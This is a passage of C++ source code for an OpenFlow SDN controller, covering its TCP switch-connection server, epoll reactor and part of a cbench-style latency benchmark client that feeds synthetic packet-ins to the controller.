  void setRpcTimeout(std::chrono::milliseconds timeout) {
    rpcTimeout_ = timeout;
  }

  /// Routes an OFPT_STATS_REPLY to the waiter that issued its xid.
  void deliverStatsReply(std::uint32_t xid, of::StatsReply reply);

 private:
  ctrl::ApiResponse<of::StatsReply> statsRpc(
      const of::StatsRequest& request) const;

  Reactor& reactor_;
  const int fd_;
  const std::string peer_;
  const std::size_t maxTxBuffer_;
  std::atomic<of::DatapathId> dpid_{0};
  std::atomic<bool> closed_{false};
  std::chrono::milliseconds rpcTimeout_{1000};

  mutable std::mutex txMutex_;
  of::Bytes txBuffer_;
  bool txArmed_ = false;  ///< EPOLLOUT currently in the interest set.

  // Stats RPC plumbing: xid-keyed waiters; replies arrive on the reactor
  // thread, callers block on their slot.
  struct StatsWaiter {
    bool done = false;
    of::StatsReply reply;
  };
  mutable std::mutex rpcMutex_;
  mutable std::condition_variable rpcCv_;
  mutable std::uint32_t nextXid_ = 0x100;  ///< Below is handshake space.
  mutable std::map<std::uint32_t, StatsWaiter> rpcWaiters_;
};

struct OfServerConfig {
  std::string bindAddress = "127.0.0.1";
  std::uint16_t port = 0;  ///< 0 = ephemeral; read back via port().
  int backlog = 1024;
  std::size_t maxTxBuffer = 4u << 20;  ///< Per-connection transmit cap.
  /// Reactor (epoll loop) count — one per controller shard when serving a
  /// sharded runtime. The listener lives on reactor 0; accepted sessions
  /// round-robin across reactors, and all per-session state stays on its
  /// owning reactor thread. 1 (the default) is byte-identical to the
  /// pre-shard single-reactor server.
  std::size_t ioThreads = 1;
};

class OfServer {
 public:
  OfServer(ctrl::Controller& controller, OfServerConfig config = {});
  ~OfServer();

  OfServer(const OfServer&) = delete;
  OfServer& operator=(const OfServer&) = delete;

  /// Binds, listens and starts the reactor thread. On failure returns
  /// false and (optionally) the reason.
  bool start(std::string* error = nullptr);
  void stop();

  std::uint16_t port() const { return boundPort_; }

  /// Connections currently accepted (handshake state included).
  std::size_t connectionCount() const { return connections_.load(); }
  /// Switches that completed the features handshake and were attached.
  std::size_t attachedCount() const { return attached_.load(); }
  std::uint64_t framingErrors() const { return framingErrors_.load(); }

  bool waitForSwitches(std::size_t n, std::chrono::milliseconds timeout);

  /// Reactor 0 — the accept loop's reactor (and, with ioThreads=1, the only
  /// one).
  Reactor& reactor() { return ioShards_.front()->reactor; }
  std::size_t ioThreadCount() const { return ioShards_.size(); }

 private:
  struct Session {
    std::shared_ptr<TcpSwitchConn> conn;
    Framer framer;
    bool attached = false;
  };

  /// One epoll loop plus the sessions it owns. The sessions map is touched
  /// only from its own reactor thread (registration is posted there), so it
  /// needs no locking — the single-reactor invariant, per shard.
  struct IoShard {
    Reactor reactor;
    std::map<int, Session> sessions;
  };

  void onAccept(std::uint32_t events);
  /// Registers an accepted fd on @p shard (runs on that shard's reactor
  /// thread) and kicks off the server-side handshake.
  void adoptSession(IoShard& shard, int fd, Session session);
  void onSession(IoShard& shard, int fd, std::uint32_t events);
  /// False = session must be torn down (framing error, protocol breach).
  bool handleFrame(Session& session, const Framer::Frame& frame);
  void dropSession(IoShard& shard, int fd, const char* reason);

  ctrl::Controller& controller_;
  OfServerConfig config_;
  std::vector<std::unique_ptr<IoShard>> ioShards_;
  std::size_t nextIoShard_ = 0;  ///< Accept-thread-only round-robin cursor.
  int listenFd_ = -1;
  std::uint16_t boundPort_ = 0;
  bool started_ = false;

  // Cross-thread observability.
  std::atomic<std::size_t> connections_{0};
  std::atomic<std::size_t> attached_{0};
  std::atomic<std::uint64_t> framingErrors_{0};
  std::mutex waitMutex_;
  std::condition_variable waitCv_;
};

}  // namespace sdnshield::net
