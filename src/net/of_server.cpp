#include "net/of_server.h"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <sys/epoll.h>
#include <sys/socket.h>
#include <unistd.h>

#include <cerrno>
#include <cstring>

#include "obs/metrics.h"

namespace sdnshield::net {

namespace wire = of::wire;

namespace {

const obs::Counter g_accepted =
    obs::Registry::global().counter("net.server.accepted");
const obs::Counter g_closed =
    obs::Registry::global().counter("net.server.closed");
const obs::Counter g_framingErrors =
    obs::Registry::global().counter("net.server.framing_errors");
const obs::Counter g_packetIns =
    obs::Registry::global().counter("net.server.packet_ins");
const obs::Counter g_framesSent =
    obs::Registry::global().counter("net.server.frames_sent");
const obs::Gauge g_connections =
    obs::Registry::global().gauge("net.server.connections");
const obs::Histogram g_frameNs =
    obs::Registry::global().histogram("net.server.frame_ns");

std::string peerName(const sockaddr_in& addr) {
  char ip[INET_ADDRSTRLEN] = {0};
  ::inet_ntop(AF_INET, &addr.sin_addr, ip, sizeof(ip));
  return std::string(ip) + ":" + std::to_string(ntohs(addr.sin_port));
}

}  // namespace

// --- TcpSwitchConn ----------------------------------------------------------

TcpSwitchConn::TcpSwitchConn(Reactor& reactor, int fd, std::string peer,
                             std::size_t maxTxBuffer)
    : reactor_(reactor),
      fd_(fd),
      peer_(std::move(peer)),
      maxTxBuffer_(maxTxBuffer) {}

TcpSwitchConn::~TcpSwitchConn() { closeConn("destroyed"); }

ctrl::ApiResult TcpSwitchConn::applyFlowMod(const of::FlowMod& mod) {
  of::Bytes frame;
  try {
    frame = wire::encodeFlowMod(mod);
  } catch (const wire::EncodeError& error) {
    return ctrl::ApiResult::failure(ctrl::ApiErrc::kFramingError,
                                    error.what());
  }
  return sendFrame(frame);
}

ctrl::ApiResult TcpSwitchConn::transmitPacket(const of::PacketOut& packetOut) {
  of::Bytes frame;
  try {
    frame = wire::encodePacketOut(packetOut);
  } catch (const wire::EncodeError& error) {
    return ctrl::ApiResult::failure(ctrl::ApiErrc::kFramingError,
                                    error.what());
  }
  return sendFrame(frame);
}

ctrl::ApiResponse<std::vector<of::FlowEntry>> TcpSwitchConn::dumpFlows()
    const {
  of::StatsRequest request;
  request.level = of::StatsLevel::kFlow;
  request.match = of::FlowMatch::any();
  auto response = statsRpc(request);
  if (!response.ok()) {
    return ctrl::ApiResponse<std::vector<of::FlowEntry>>::failure(
        response.error());
  }
  std::vector<of::FlowEntry> entries;
  entries.reserve(response.value().flows.size());
  for (const of::FlowStatsEntry& flowStats : response.value().flows) {
    of::FlowEntry entry;
    entry.match = flowStats.match;
    entry.priority = flowStats.priority;
    entry.cookie = flowStats.cookie;
    entry.packetCount = flowStats.packetCount;
    entry.byteCount = flowStats.byteCount;
    entries.push_back(std::move(entry));
  }
  return ctrl::ApiResponse<std::vector<of::FlowEntry>>::success(
      std::move(entries));
}

ctrl::ApiResponse<of::StatsReply> TcpSwitchConn::queryStats(
    const of::StatsRequest& request) const {
  return statsRpc(request);
}

ctrl::ApiResponse<of::StatsReply> TcpSwitchConn::statsRpc(
    const of::StatsRequest& request) const {
  if (closed_.load()) {
    return ctrl::ApiResponse<of::StatsReply>::failure(
        ctrl::ApiErrc::kConnClosed, "connection to " + peer_ + " is closed");
  }
  of::Bytes frame;
  std::uint32_t xid = 0;
  {
    std::lock_guard lock(rpcMutex_);
    xid = nextXid_++;
    rpcWaiters_[xid] = StatsWaiter{};
  }
  try {
    frame = wire::encodeStatsRequest(request, xid);
  } catch (const wire::EncodeError& error) {
    std::lock_guard lock(rpcMutex_);
    rpcWaiters_.erase(xid);
    return ctrl::ApiResponse<of::StatsReply>::failure(
        ctrl::ApiErrc::kFramingError, error.what());
  }
  // sendFrame is logically non-const; the RPC is a read of remote state.
  ctrl::ApiResult sent = const_cast<TcpSwitchConn*>(this)->sendFrame(frame);
  if (!sent.ok()) {
    std::lock_guard lock(rpcMutex_);
    rpcWaiters_.erase(xid);
    return ctrl::ApiResponse<of::StatsReply>::failure(sent.error());
  }
  std::unique_lock lock(rpcMutex_);
  bool answered = rpcCv_.wait_for(lock, rpcTimeout_, [&] {
    auto it = rpcWaiters_.find(xid);
    return it == rpcWaiters_.end() || it->second.done;
  });
  auto it = rpcWaiters_.find(xid);
  if (it == rpcWaiters_.end()) {
    // closeConn() swept the waiters: the connection died mid-RPC.
    return ctrl::ApiResponse<of::StatsReply>::failure(
        ctrl::ApiErrc::kConnClosed, "connection to " + peer_ + " closed");
  }
  if (!answered || !it->second.done) {
    rpcWaiters_.erase(it);
    return ctrl::ApiResponse<of::StatsReply>::failure(
        ctrl::ApiErrc::kDeadlineExceeded,
        "stats reply from " + peer_ + " timed out");
  }
  of::StatsReply reply = std::move(it->second.reply);
  rpcWaiters_.erase(it);
  // Datapath identity is connection state, not wire payload.
  reply.dpid = dpid_.load();
  reply.switchStats.dpid = dpid_.load();
  return ctrl::ApiResponse<of::StatsReply>::success(std::move(reply));
}

void TcpSwitchConn::deliverStatsReply(std::uint32_t xid, of::StatsReply reply) {
  std::lock_guard lock(rpcMutex_);
  auto it = rpcWaiters_.find(xid);
  if (it == rpcWaiters_.end()) return;  // Waiter timed out already.
  it->second.reply = std::move(reply);
  it->second.done = true;
  rpcCv_.notify_all();
}

ctrl::ApiResult TcpSwitchConn::sendFrame(const of::Bytes& frame) {
  std::lock_guard lock(txMutex_);
  if (closed_.load()) {
    return ctrl::ApiResult::failure(ctrl::ApiErrc::kConnClosed,
                                    "connection to " + peer_ + " is closed");
  }
  std::size_t offset = 0;
  if (txBuffer_.empty()) {
    // Fast path: the socket usually has room for a whole frame.
    while (offset < frame.size()) {
      ssize_t n = ::send(fd_, frame.data() + offset, frame.size() - offset,
                         MSG_NOSIGNAL);
      if (n > 0) {
        offset += static_cast<std::size_t>(n);
        continue;
      }
      if (n < 0 && (errno == EAGAIN || errno == EWOULDBLOCK)) break;
      if (n < 0 && errno == EINTR) continue;
      closed_.store(true);
      return ctrl::ApiResult::failure(
          ctrl::ApiErrc::kConnClosed,
          "send to " + peer_ + " failed: " + std::strerror(errno));
    }
    if (offset == frame.size()) {
      g_framesSent.increment();
      return ctrl::ApiResult::success();
    }
  }
  if (txBuffer_.size() + (frame.size() - offset) > maxTxBuffer_) {
    return ctrl::ApiResult::failure(
        ctrl::ApiErrc::kQueueFull,
        "transmit buffer to " + peer_ + " is full");
  }
  txBuffer_.insert(txBuffer_.end(), frame.begin() + offset, frame.end());
  if (!txArmed_) {
    txArmed_ = true;
    reactor_.rearm(fd_, EPOLLIN | EPOLLOUT);
  }
  g_framesSent.increment();
  return ctrl::ApiResult::success();
}

void TcpSwitchConn::onWritable() {
  std::lock_guard lock(txMutex_);
  if (closed_.load()) return;
  std::size_t offset = 0;
  while (offset < txBuffer_.size()) {
    ssize_t n = ::send(fd_, txBuffer_.data() + offset,
                       txBuffer_.size() - offset, MSG_NOSIGNAL);
    if (n > 0) {
      offset += static_cast<std::size_t>(n);
      continue;
    }
    if (n < 0 && (errno == EAGAIN || errno == EWOULDBLOCK)) break;
    if (n < 0 && errno == EINTR) continue;
    closed_.store(true);
    return;  // The read side will observe the error and drop the session.
  }
  txBuffer_.erase(txBuffer_.begin(),
                  txBuffer_.begin() + static_cast<std::ptrdiff_t>(offset));
  if (txBuffer_.empty() && txArmed_) {
    txArmed_ = false;
    reactor_.rearm(fd_, EPOLLIN);
  }
}

void TcpSwitchConn::closeConn(const std::string& reason) {
  bool expected = false;
  if (!closed_.compare_exchange_strong(expected, true)) return;
  (void)reason;
  reactor_.remove(fd_);
  ::shutdown(fd_, SHUT_RDWR);
  ::close(fd_);
  // Fail in-flight RPCs: erase the waiters so blocked callers see closure.
  {
    std::lock_guard lock(rpcMutex_);
    rpcWaiters_.clear();
    rpcCv_.notify_all();
  }
  g_closed.increment();
  g_connections.sub();
}

// --- OfServer ---------------------------------------------------------------

OfServer::OfServer(ctrl::Controller& controller, OfServerConfig config)
    : controller_(controller), config_(std::move(config)) {
  std::size_t ioThreads = config_.ioThreads == 0 ? 1 : config_.ioThreads;
  ioShards_.reserve(ioThreads);
  for (std::size_t i = 0; i < ioThreads; ++i) {
    ioShards_.push_back(std::make_unique<IoShard>());
  }
}

OfServer::~OfServer() { stop(); }

bool OfServer::start(std::string* error) {
  auto fail = [&](const std::string& reason) {
    if (error != nullptr) *error = reason;
    if (listenFd_ >= 0) {
      ::close(listenFd_);
      listenFd_ = -1;
    }
    return false;
  };
  listenFd_ = ::socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
  if (listenFd_ < 0) return fail(std::string("socket: ") + std::strerror(errno));
  int one = 1;
  ::setsockopt(listenFd_, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
  sockaddr_in addr{};
  addr.sin_family = AF_INET;
  addr.sin_port = htons(config_.port);
  if (::inet_pton(AF_INET, config_.bindAddress.c_str(), &addr.sin_addr) != 1) {
    return fail("bad bind address: " + config_.bindAddress);
  }
  if (::bind(listenFd_, reinterpret_cast<sockaddr*>(&addr), sizeof(addr)) <
      0) {
    return fail(std::string("bind: ") + std::strerror(errno));
  }
  if (::listen(listenFd_, config_.backlog) < 0) {
    return fail(std::string("listen: ") + std::strerror(errno));
  }
  sockaddr_in bound{};
  socklen_t boundLen = sizeof(bound);
  ::getsockname(listenFd_, reinterpret_cast<sockaddr*>(&bound), &boundLen);
  boundPort_ = ntohs(bound.sin_port);
  if (!ioShards_.front()->reactor.add(
          listenFd_, EPOLLIN,
          [this](std::uint32_t events) { onAccept(events); })) {
    return fail("epoll add(listener) failed");
  }
  for (auto& shard : ioShards_) shard->reactor.start();
  started_ = true;
  return true;
}

void OfServer::stop() {
  if (!started_) return;
  // Tear sessions down on their owning reactor threads, then stop the
  // loops. Each shard's sweep is posted to its own reactor (the only
  // thread allowed to touch its sessions map).
  std::mutex doneMutex;
  std::condition_variable doneCv;
  std::size_t pending = ioShards_.size();
  for (auto& shardPtr : ioShards_) {
    IoShard* shard = shardPtr.get();
    shard->reactor.post([this, shard, &doneMutex, &doneCv, &pending] {
      for (auto& [fd, session] : shard->sessions) {
        (void)fd;
        session.conn->closeConn("server stopping");
      }
      shard->sessions.clear();
      std::lock_guard lock(doneMutex);
      --pending;
      doneCv.notify_all();
    });
  }
  {
    std::unique_lock lock(doneMutex);
    doneCv.wait_for(lock, std::chrono::seconds(5),
                    [&] { return pending == 0; });
  }
  for (auto& shard : ioShards_) shard->reactor.stop();
  if (listenFd_ >= 0) {
    ioShards_.front()->reactor.remove(listenFd_);
    ::close(listenFd_);
    listenFd_ = -1;
  }
  started_ = false;
}

bool OfServer::waitForSwitches(std::size_t n,
                               std::chrono::milliseconds timeout) {
  std::unique_lock lock(waitMutex_);
  return waitCv_.wait_for(lock, timeout,
                          [&] { return attached_.load() >= n; });
}

void OfServer::onAccept(std::uint32_t) {
  while (true) {
    sockaddr_in addr{};
    socklen_t addrLen = sizeof(addr);
    int fd = ::accept4(listenFd_, reinterpret_cast<sockaddr*>(&addr),
                       &addrLen, SOCK_NONBLOCK | SOCK_CLOEXEC);
    if (fd < 0) {
      if (errno == EAGAIN || errno == EWOULDBLOCK) return;
      if (errno == EINTR) continue;
      return;  // EMFILE etc.: stop accepting this round, retry on next event.
    }
    int one = 1;
    ::setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof(one));
    // Round-robin across reactors; the cursor lives on the accept thread
    // only. With one reactor this always picks shard 0 — today's path.
    IoShard& target = *ioShards_[nextIoShard_];
    nextIoShard_ = (nextIoShard_ + 1) % ioShards_.size();
    Session session;
    session.conn = std::make_shared<TcpSwitchConn>(
        target.reactor, fd, peerName(addr), config_.maxTxBuffer);
    if (&target == ioShards_.front().get()) {
      // Accept thread IS the owning reactor thread: register in place.
      adoptSession(target, fd, std::move(session));
    } else {
      // Hand the session to its owning reactor; that thread registers the
      // fd and runs the handshake so the sessions map stays thread-local.
      auto handoff = std::make_shared<Session>(std::move(session));
      target.reactor.post([this, &target, fd, handoff] {
        adoptSession(target, fd, std::move(*handoff));
      });
    }
  }
}

void OfServer::adoptSession(IoShard& shard, int fd, Session session) {
  auto [it, inserted] = shard.sessions.emplace(fd, std::move(session));
  (void)inserted;
  if (!shard.reactor.add(fd, EPOLLIN,
                         [this, &shard, fd](std::uint32_t events) {
                           onSession(shard, fd, events);
                         })) {
    shard.sessions.erase(it);
    ::close(fd);
    return;
  }
  g_accepted.increment();
  g_connections.add();
  connections_.fetch_add(1);
  // Server-side handshake: identify yourself.
  it->second.conn->sendFrame(wire::encodeHello(1));
  it->second.conn->sendFrame(wire::encodeFeaturesRequest(2));
}

void OfServer::onSession(IoShard& shard, int fd, std::uint32_t events) {
  auto it = shard.sessions.find(fd);
  if (it == shard.sessions.end()) return;
  Session& session = it->second;
  if (events & EPOLLOUT) session.conn->onWritable();
  if (session.conn->closed()) {
    dropSession(shard, fd, "send error");
    return;
  }
  if ((events & (EPOLLHUP | EPOLLERR)) && !(events & EPOLLIN)) {
    dropSession(shard, fd, "hangup");
    return;
  }
  if (!(events & EPOLLIN)) return;

  std::uint8_t chunk[64 * 1024];
  while (true) {
    ssize_t n = ::read(fd, chunk, sizeof(chunk));
    if (n > 0) {
      session.framer.append(chunk, static_cast<std::size_t>(n));
      continue;
    }
    if (n == 0) {
      dropSession(shard, fd, "eof");
      return;
    }
    if (errno == EAGAIN || errno == EWOULDBLOCK) break;
    if (errno == EINTR) continue;
    dropSession(shard, fd, "read error");
    return;
  }

  Framer::Frame frame;
  while (true) {
    Framer::Status status = session.framer.next(frame);
    if (status == Framer::Status::kNeedMore) break;
    if (status == Framer::Status::kCorrupt) {
      framingErrors_.fetch_add(1);
      g_framingErrors.increment();
      dropSession(shard, fd, "framing error");
      return;
    }
    auto frameStart = std::chrono::steady_clock::now();
    if (!handleFrame(session, frame)) {
      framingErrors_.fetch_add(1);
      g_framingErrors.increment();
      dropSession(shard, fd, "bad message");
      return;
    }
    g_frameNs.record(std::chrono::duration_cast<std::chrono::nanoseconds>(
                         std::chrono::steady_clock::now() - frameStart)
                         .count());
    // dropSession may have run via handleFrame side effects.
    if (shard.sessions.find(fd) == shard.sessions.end()) return;
  }
}

bool OfServer::handleFrame(Session& session, const Framer::Frame& frame) {
  wire::Message message;
  try {
    message = wire::decode(frame.data, frame.size);
  } catch (const wire::DecodeError&) {
    return false;
  }
  of::DatapathId dpid = session.conn->dpid();
  if (const auto* features = std::get_if<wire::FeaturesReply>(&message)) {
    if (session.attached) return true;  // Duplicate reply: ignore.
    if (features->dpid == 0) return false;  // No identity, no attachment.
    session.conn->setDpid(features->dpid);
    ctrl::ConnectionInfo info;
    info.dpid = features->dpid;
    info.transport = "tcp";
    info.peer = session.conn->peer();
    info.ofVersion = wire::kVersion;
    ctrl::ApiResult attachResult =
        controller_.attachSwitch(session.conn, info);
    if (!attachResult.ok()) return false;
    session.attached = true;
    attached_.fetch_add(1);
    {
      std::lock_guard lock(waitMutex_);
      waitCv_.notify_all();
    }
    return true;
  }
  if (const auto* echo = std::get_if<wire::Echo>(&message)) {
    if (!echo->isReply) {
      wire::Echo reply{true, echo->xid, echo->payload};
      session.conn->sendFrame(wire::encodeEcho(reply));
    }
    return true;
  }
  if (std::holds_alternative<wire::Hello>(message)) return true;
  if (auto* packetIn = std::get_if<of::PacketIn>(&message)) {
    if (!session.attached) return true;  // Not a switch yet: drop quietly.
    packetIn->dpid = dpid;
    g_packetIns.increment();
    controller_.onPacketIn(*packetIn);
    return true;
  }
  if (auto* statsReply = std::get_if<of::StatsReply>(&message)) {
    session.conn->deliverStatsReply(wire::transactionId(frame.data, frame.size),
                                    std::move(*statsReply));
    return true;
  }
  if (auto* removed = std::get_if<of::FlowRemoved>(&message)) {
    if (session.attached) {
      removed->dpid = dpid;
      controller_.onFlowRemoved(*removed);
    }
    return true;
  }
  if (auto* errorMsg = std::get_if<of::ErrorMsg>(&message)) {
    if (session.attached) {
      errorMsg->dpid = dpid;
      controller_.onSwitchError(*errorMsg);
    }
    return true;
  }
  // Controller-to-switch message types arriving from a switch are a
  // protocol breach; contain it to this connection.
  return false;
}

void OfServer::dropSession(IoShard& shard, int fd, const char* reason) {
  auto it = shard.sessions.find(fd);
  if (it == shard.sessions.end()) return;
  bool wasAttached = it->second.attached;
  it->second.conn->closeConn(reason);
  shard.sessions.erase(it);
  connections_.fetch_sub(1);
  if (wasAttached) attached_.fetch_sub(1);
}

}  // namespace sdnshield::net
