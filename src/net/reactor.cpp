#include "net/reactor.h"

#include <sys/epoll.h>
#include <sys/eventfd.h>
#include <unistd.h>

#include <cstring>
#include <stdexcept>

#include "obs/metrics.h"

namespace sdnshield::net {

namespace {
const obs::Counter g_dispatches =
    obs::Registry::global().counter("net.reactor.dispatches");
const obs::Counter g_wakeups =
    obs::Registry::global().counter("net.reactor.wakeups");
}  // namespace

Reactor::Reactor() {
  epollFd_ = ::epoll_create1(EPOLL_CLOEXEC);
  if (epollFd_ < 0) {
    throw std::runtime_error(std::string("epoll_create1: ") +
                             std::strerror(errno));
  }
  wakeFd_ = ::eventfd(0, EFD_CLOEXEC | EFD_NONBLOCK);
  if (wakeFd_ < 0) {
    int savedErrno = errno;
    ::close(epollFd_);
    throw std::runtime_error(std::string("eventfd: ") +
                             std::strerror(savedErrno));
  }
  epoll_event event{};
  event.events = EPOLLIN;
  event.data.fd = wakeFd_;
  if (::epoll_ctl(epollFd_, EPOLL_CTL_ADD, wakeFd_, &event) < 0) {
    int savedErrno = errno;
    ::close(wakeFd_);
    ::close(epollFd_);
    throw std::runtime_error(std::string("epoll_ctl(wakeFd): ") +
                             std::strerror(savedErrno));
  }
}

Reactor::~Reactor() {
  stop();
  ::close(wakeFd_);
  ::close(epollFd_);
}

bool Reactor::add(int fd, std::uint32_t events, IoHandler handler) {
  epoll_event event{};
  event.events = events;
  event.data.fd = fd;
  {
    std::lock_guard lock(mutex_);
    handlers_[fd] = std::make_shared<IoHandler>(std::move(handler));
  }
  if (::epoll_ctl(epollFd_, EPOLL_CTL_ADD, fd, &event) < 0) {
    std::lock_guard lock(mutex_);
    handlers_.erase(fd);
    return false;
  }
  return true;
}

bool Reactor::rearm(int fd, std::uint32_t events) {
  epoll_event event{};
  event.events = events;
  event.data.fd = fd;
  return ::epoll_ctl(epollFd_, EPOLL_CTL_MOD, fd, &event) == 0;
}

void Reactor::remove(int fd) {
  ::epoll_ctl(epollFd_, EPOLL_CTL_DEL, fd, nullptr);
  std::lock_guard lock(mutex_);
  handlers_.erase(fd);
}

void Reactor::post(std::function<void()> task) {
  {
    std::lock_guard lock(mutex_);
    tasks_.push_back(std::move(task));
  }
  wake();
}

bool Reactor::start() {
  if (threadStarted_) return false;
  stop_.store(false);
  thread_ = std::thread([this] { loop(); });
  threadStarted_ = true;
  return true;
}

void Reactor::stop() {
  stop_.store(true);
  wake();
  if (threadStarted_ && thread_.joinable()) thread_.join();
  threadStarted_ = false;
}

void Reactor::run() {
  stop_.store(false);
  loop();
}

std::size_t Reactor::fdCount() const {
  std::lock_guard lock(mutex_);
  return handlers_.size();
}

void Reactor::wake() {
  std::uint64_t one = 1;
  [[maybe_unused]] ssize_t n = ::write(wakeFd_, &one, sizeof(one));
  g_wakeups.increment();
}

void Reactor::drainTasks() {
  std::vector<std::function<void()>> tasks;
  {
    std::lock_guard lock(mutex_);
    tasks.swap(tasks_);
  }
  for (auto& task : tasks) task();
}

void Reactor::loop() {
  loopThreadId_.store(std::this_thread::get_id());
  constexpr int kMaxEvents = 128;
  epoll_event events[kMaxEvents];
  while (!stop_.load()) {
    int ready = ::epoll_wait(epollFd_, events, kMaxEvents, /*timeout=*/200);
    if (ready < 0) {
      if (errno == EINTR) continue;
      break;  // Reactor fd itself is broken; nothing sensible to do.
    }
    for (int i = 0; i < ready; ++i) {
      int fd = events[i].data.fd;
      if (fd == wakeFd_) {
        std::uint64_t drained = 0;
        [[maybe_unused]] ssize_t n =
            ::read(wakeFd_, &drained, sizeof(drained));
        continue;
      }
      std::shared_ptr<IoHandler> handler;
      {
        std::lock_guard lock(mutex_);
        auto it = handlers_.find(fd);
        if (it != handlers_.end()) handler = it->second;
      }
      if (handler) {
        g_dispatches.increment();
        (*handler)(events[i].events);
      }
    }
    drainTasks();
  }
  // One final drain so post()ed cleanups are not stranded.
  drainTasks();
  loopThreadId_.store(std::thread::id{});
}

}  // namespace sdnshield::net
