#include "net/cbench_client.h"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <sys/epoll.h>
#include <sys/socket.h>
#include <unistd.h>

#include <algorithm>
#include <cerrno>
#include <condition_variable>
#include <cstring>
#include <memory>
#include <mutex>

#include "net/framer.h"
#include "net/reactor.h"
#include "obs/metrics.h"
#include "of/packet.h"

namespace sdnshield::net {

namespace wire = of::wire;

namespace {

const obs::Counter g_roundsRun =
    obs::Registry::global().counter("net.cbench.rounds");
const obs::Counter g_roundTimeouts =
    obs::Registry::global().counter("net.cbench.timeouts");
const obs::Histogram g_roundNs =
    obs::Registry::global().histogram("net.cbench.round_ns");

double percentile(std::vector<double> sorted, double q) {
  if (sorted.empty()) return 0;
  std::sort(sorted.begin(), sorted.end());
  std::size_t idx = static_cast<std::size_t>(q * (sorted.size() - 1));
  return sorted[idx];
}

struct Conn {
  int fd = -1;
  std::size_t index = 0;
  of::DatapathId dpid = 0;
  Framer framer;
  of::Bytes txBuffer;
  bool txArmed = false;

  enum class Phase { kConnecting, kHandshake, kRounds, kDone, kFailed };
  Phase phase = Phase::kConnecting;
  std::size_t roundsDone = 0;
  std::chrono::steady_clock::time_point sentAt{};

  of::MacAddress probeMac;
  of::MacAddress targetMac;
  of::Ipv4Address probeIp;
  of::Ipv4Address targetIp;

  std::vector<double> latenciesUs;
  std::size_t timeouts = 0;
  std::uint64_t flowMods = 0;
  std::uint64_t packetOuts = 0;
  std::vector<of::Bytes> capturedFlowMods;
};

/// Whole-campaign state shared between the reactor thread (I/O handlers)
/// and the supervising thread (timeout scans). One mutex guards it all:
/// the scanner holds it for microseconds every 20ms.
struct Campaign {
  CbenchClientConfig config;
  Reactor reactor;
  std::mutex mutex;
  std::condition_variable cv;
  std::vector<std::unique_ptr<Conn>> conns;
  std::size_t settled = 0;  ///< kDone + kFailed.
  std::size_t connected = 0;
  std::size_t handshaked = 0;

  void settle(Conn& conn, Conn::Phase terminal) {
    if (conn.phase == Conn::Phase::kDone ||
        conn.phase == Conn::Phase::kFailed) {
      return;
    }
    conn.phase = terminal;
    ++settled;
    cv.notify_all();
  }

  // All the following run with mutex held.
  void sendBytes(Conn& conn, const of::Bytes& bytes);
  void startRound(Conn& conn);
  void onEvent(Conn& conn, std::uint32_t events);
  void handleMessage(Conn& conn, const wire::Message& message,
                     const Framer::Frame& frame);
  void failConn(Conn& conn);
};

void Campaign::failConn(Conn& conn) {
  if (conn.fd >= 0) {
    reactor.remove(conn.fd);
    ::close(conn.fd);
    conn.fd = -1;
  }
  settle(conn, Conn::Phase::kFailed);
}

void Campaign::sendBytes(Conn& conn, const of::Bytes& bytes) {
  if (conn.fd < 0) return;
  std::size_t offset = 0;
  if (conn.txBuffer.empty()) {
    while (offset < bytes.size()) {
      ssize_t n = ::send(conn.fd, bytes.data() + offset,
                         bytes.size() - offset, MSG_NOSIGNAL);
      if (n > 0) {
        offset += static_cast<std::size_t>(n);
        continue;
      }
      if (n < 0 && (errno == EAGAIN || errno == EWOULDBLOCK)) break;
      if (n < 0 && errno == EINTR) continue;
      failConn(conn);
      return;
    }
    if (offset == bytes.size()) return;
  }
  conn.txBuffer.insert(conn.txBuffer.end(), bytes.begin() + offset,
                       bytes.end());
  if (!conn.txArmed) {
    conn.txArmed = true;
    reactor.rearm(conn.fd, EPOLLIN | EPOLLOUT);
  }
}

void Campaign::startRound(Conn& conn) {
  of::PacketIn probe;
  probe.inPort = 4;
  probe.reason = of::PacketInReason::kNoMatch;
  probe.packet =
      of::Packet::makeTcp(conn.probeMac, conn.targetMac, conn.probeIp,
                          conn.targetIp, 12345, 80, of::tcpflags::kSyn);
  conn.sentAt = std::chrono::steady_clock::now();
  g_roundsRun.increment();
  sendBytes(conn, wire::encodePacketIn(probe));
}

void Campaign::handleMessage(Conn& conn, const wire::Message& message,
                             const Framer::Frame& frame) {
  if (const auto* features = std::get_if<wire::FeaturesRequest>(&message)) {
    wire::FeaturesReply reply;
    reply.xid = features->xid;
    reply.dpid = conn.dpid;
    sendBytes(conn, wire::encodeFeaturesReply(reply));
    if (conn.phase == Conn::Phase::kHandshake) {
      ++handshaked;
      // Host announcements: the L2 app learns target@port1 and probe@port4
      // from the packet-ins themselves, exactly like ARP warm-up in the
      // in-process Generator.
      of::PacketIn announceTarget;
      announceTarget.inPort = 1;
      announceTarget.packet = of::Packet::makeArpRequest(
          conn.targetMac, conn.targetIp,
          of::Ipv4Address(10, 255, 255, 254));
      sendBytes(conn, wire::encodePacketIn(announceTarget));
      of::PacketIn announceProbe;
      announceProbe.inPort = 4;
      announceProbe.packet = of::Packet::makeArpRequest(
          conn.probeMac, conn.probeIp, of::Ipv4Address(10, 255, 255, 254));
      sendBytes(conn, wire::encodePacketIn(announceProbe));
      if (config.handshakeOnly || config.rounds == 0) {
        settle(conn, Conn::Phase::kDone);
      } else {
        conn.phase = Conn::Phase::kRounds;
        startRound(conn);
      }
    }
    return;
  }
  if (std::holds_alternative<of::FlowMod>(message)) {
    ++conn.flowMods;
    if (config.captureFlowModFrames) {
      conn.capturedFlowMods.emplace_back(frame.data, frame.data + frame.size);
    }
    if (conn.phase == Conn::Phase::kRounds) {
      auto elapsed = std::chrono::steady_clock::now() - conn.sentAt;
      auto ns =
          std::chrono::duration_cast<std::chrono::nanoseconds>(elapsed)
              .count();
      g_roundNs.record(ns);
      conn.latenciesUs.push_back(static_cast<double>(ns) / 1000.0);
      ++conn.roundsDone;
      if (conn.roundsDone >= config.rounds) {
        settle(conn, Conn::Phase::kDone);
      } else {
        startRound(conn);
      }
    }
    return;
  }
  if (std::holds_alternative<of::PacketOut>(message)) {
    ++conn.packetOuts;
    return;
  }
  if (const auto* echo = std::get_if<wire::Echo>(&message)) {
